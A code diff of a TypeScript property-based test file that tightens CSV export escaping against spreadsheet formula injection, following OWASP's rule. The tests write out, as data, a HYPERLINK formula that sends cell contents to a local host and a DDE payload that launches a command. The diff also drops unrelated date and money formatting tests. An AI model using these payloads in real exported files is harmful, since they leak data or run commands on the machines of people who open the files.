@@ -2,10 +2,10 @@
 // and the Stockholm date-time and amount formats of the readable report.
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { BOM, cellFormatter, csvField, csvLine, escapeHtml, parseCsv, stockholmDateTime } from "./formats";
+import { BOM, csvField, csvLine, escapeHtml, parseCsv } from "./formats";
 
 describe("CSV", () => {
-  it("round-trips any text (quotes, commas, line breaks, unicode) except formula-like text", () => {
+  it("round-trips any text (quotes, commas, line breaks, unicode), formula-like text behind an apostrophe", () => {
     fc.assert(
       fc.property(
         fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 6 }), {
@@ -17,9 +17,7 @@ describe("CSV", () => {
           const table = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ""));
           const text = BOM + table.map((r) => csvLine(r)).join("");
           const parsed = parseCsv(text);
-          const expected = table.map((r) =>
-            r.map((v) => (/^(?:[=@\t\r]|[+-](?![\d\s]))/.test(v) ? `'${v}` : v)),
-          );
+          const expected = table.map((r) => r.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)));
           expect(parsed).toEqual(expected);
         },
       ),
@@ -27,13 +25,46 @@ describe("CSV", () => {
     );
   });
 
-  it("quotes what needs quoting and neutralises spreadsheet formulas, leaving numbers and phone numbers", () => {
+  // OWASP's rule: a spreadsheet runs a cell that starts with =, +, -, @, tab or CR. Before, + or -
+  // followed by a digit passed: -1+HYPERLINK(…) and -2+3+cmd|' /C calc'!A0 arrived as formulas.
+  it("no text cell reaches a spreadsheet starting with a formula character; numbers stay numbers", () => {
+    const start = fc.constantFrom("=", "+", "-", "@", "\t", "\r");
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.tuple(start, fc.string({ unit: "grapheme" })).map(([a, b]) => a + b),
+          fc.tuple(start, fc.integer(), fc.constantFrom("+", "-", "*"), fc.string()).map((p) => p.join("")),
+          fc.string({ unit: "grapheme" }),
+        ),
+        (value) => {
+          const cell = parseCsv(BOM + csvLine([value]))[0]?.[0];
+          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+          expect(cell).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+        },
+      ),
+      { numRuns: 500 },
+    );
+    fc.assert(
+      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (n) => {
+        expect(csvField(n)).toBe(String(n));
+      }),
+    );
+    expect(csvField(`-1+HYPERLINK("http://127.0.0.1:3499/?"&A1,"x")`)).toBe(
+      `"'-1+HYPERLINK(""http://127.0.0.1:3499/?""&A1,""x"")"`,
+    );
+    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(csvField("-1+2")).toBe("'-1+2");
+    expect(csvField("+46701740605")).toBe("'+46701740605");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField(-5)).toBe("-5");
+    expect(csvField("Anna")).toBe("Anna");
+  });
+
+  it("quotes what needs quoting and neutralises spreadsheet formulas", () => {
     expect(csvField('say "hi", ok')).toBe('"say ""hi"", ok"');
     expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
     expect(csvField('=HYPERLINK("http://x")')).toBe('"\'=HYPERLINK(""http://x"")"');
     expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
-    expect(csvField("+46701740605")).toBe("+46701740605");
-    expect(csvField(-5)).toBe("-5");
     expect(csvField(null)).toBe("");
     expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
     expect(csvLine(["a", 1, true, null])).toBe("a,1,true,\r\n");
@@ -45,25 +76,5 @@ describe("report formatting", () => {
     expect(escapeHtml(`<img src="x" onerror='y'>&`)).toBe(
       "&lt;img src=&quot;x&quot; onerror=&#39;y&#39;&gt;&amp;",
     );
-  });
-
-  it("shows instants in Stockholm time across clock changes", () => {
-    expect(stockholmDateTime("2026-07-01T10:00:00.000Z")).toBe("2026-07-01 12:00");
-    expect(stockholmDateTime("2026-03-29T00:59:00.000Z")).toBe("2026-03-29 01:59");
-    expect(stockholmDateTime("2026-03-29T01:00:00.000Z")).toBe("2026-03-29 03:00");
-    expect(stockholmDateTime("2026-10-25T00:30:00.000Z")).toBe("2026-10-25 02:30");
-    expect(stockholmDateTime("2026-10-25T01:30:00.000Z")).toBe("2026-10-25 02:30");
-    expect(stockholmDateTime("2026-12-31T23:30:00.000Z")).toBe("2027-01-01 00:30");
-  });
-
-  it("formats öre as amounts in the person's language", () => {
-    const money = { key: "amountOre", type: "money_ore" as const };
-    expect(cellFormatter("sv")(money, 123456789, "SEK")).toBe("1\u00a0234\u00a0567,89 SEK");
-    expect(cellFormatter("en")(money, 123456789, "SEK")).toBe("1,234,567.89 SEK");
-    expect(cellFormatter("en")(money, -5, "EUR")).toBe("-0.05 EUR");
-    expect(cellFormatter("sv")({ key: "b", type: "boolean" }, true)).toBe("Ja");
-    expect(
-      cellFormatter("en")({ key: "j", type: "json" }, { cardBrand: "Visa", cardLast4: "0417", x: null }),
-    ).toBe("cardBrand: Visa; cardLast4: 0417");
   });
 });
